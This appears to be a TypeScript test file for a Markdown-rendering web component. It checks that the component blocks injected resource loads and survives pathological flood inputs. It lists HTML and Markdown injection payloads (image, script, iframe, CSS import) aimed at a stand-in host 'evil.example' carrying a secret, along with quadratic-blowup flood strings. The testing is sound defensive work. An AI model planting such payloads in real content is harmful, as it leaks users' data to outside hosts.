import { expect, mount } from '../testing/fixture.ts';
import { createDocument, renderAtOnce, renderInPieces } from '../testing/markdown.ts';
import '../../define-all.ts';

const evil = 'https://evil.example/?q=SECRET';
const leaks = [
  `![x](${evil})`,
  `![x][r]\n\n[r]: ${evil}`,
  `![${evil}](${evil} "${evil}")`,
  `<img src="${evil}">`,
  `<svg><image href="${evil}"/></svg>`,
  `<div style="background:url(${evil})">x</div>`,
  `<style>@import "${evil}";</style>`,
  `<iframe src="${evil}"></iframe><script src="${evil}"></script>`,
  `<link rel=icon href="${evil}">`,
  `[![x](${evil})](${evil})`,
  `${evil} <${evil}>`,
  `| ![x](${evil}) |\n|---|\n| ![y](${evil}) |`,
];

const repeat = (text: string, length = 200_000) => text.repeat(Math.ceil(length / text.length));
const floods: Record<string, string> = {
  quotes: repeat('> '),
  brackets: repeat('['),
  'brackets that close': `${repeat('[', 100_000)}${repeat(']', 100_000)}`,
  stars: repeat('*'),
  'stars that open': repeat('*a '),
  'stars that do both': repeat('*a_b'),
  backticks: repeat('`'),
  'backticks of all lengths': Array.from({ length: 600 }, (_, i) => `${'`'.repeat(i)}a`).join(''),
  'half links': repeat('[a](<b'),
  'half tags': repeat('<a '),
  'half definitions': repeat('[a\n'),
  dollars: repeat('$'),
  'dollars that open': repeat('$a '),
  'brackets of formulas': repeat('\\('),
  formulas: repeat('$a$ '),
  footnotes: repeat('[^1]: ', 20_000),
  'marks of footnotes': `[^1]: a\n\n${repeat('[^1]')}`,
  'list markers': repeat('- '),
  'short rows under many columns': `${'|a'.repeat(60)}\n${'|-'.repeat(60)}|\n${repeat('|\n', 20_000)}`,
};

const depthOf = (element: Element): number =>
  1 + Math.max(0, ...[...element.children].map((child) => depthOf(child)));

describe('hostile Markdown', () => {
  it('D01: asks nothing of any host that is not allowed', async () => {
    const before = performance.getEntriesByType('resource').length;
    const element = mount(document.createElement('inlay-markdown'));
    element.text = leaks.join('\n\n');
    await element.updateComplete;

    const root = element.shadowRoot;
    expect(root?.querySelector('img, svg, iframe, script, link, object, [style], [src]')).to.equal(
      null,
    );
    expect(root?.querySelectorAll('style').length ?? 0).to.equal(0);
    const asked = performance.getEntriesByType('resource').slice(before);
    expect(asked.filter((entry) => entry.name.includes('evil'))).to.deep.equal([]);
    expect(root?.textContent).to.contain('<script src=');
  });

  for (const [name, text] of Object.entries(floods)) {
    it(`stays shallow and ends soon: ${name}`, () => {
      const started = performance.now();
      const content = renderAtOnce(text);

      expect(depthOf(content)).to.be.below(120);
      // Far above what it takes on a busy machine, and far below what a square of the length takes.
      expect(performance.now() - started).to.be.below(20_000);
    });
  }

  it('takes each piece of a flood of open marks soon', () => {
    const text = repeat('*a ');
    const { document } = createDocument();
    let slowest = 0;
    for (let end = 8_000; end <= text.length; end += 8_000) {
      const started = performance.now();
      document.update(text.slice(0, end), true);
      slowest = Math.max(slowest, performance.now() - started);
    }

    expect(slowest).to.be.below(20_000);
  }).timeout(30_000);

  it('shows what is beyond a million characters as plain text', () => {
    const content = renderAtOnce(`${'word '.repeat(200_000)}**beyond**`);

    expect(content.querySelector('[part=plain]')?.textContent).to.equal('**beyond**');
    expect(content.querySelector('strong')).to.equal(null);
  });

  it('is the same beyond the limits however its text was cut', () => {
    const text = repeat('- a\n', 84_000);

    expect(renderInPieces(text, [9_973]).innerHTML).to.equal(renderAtOnce(text).innerHTML);
  }).timeout(30_000);
});
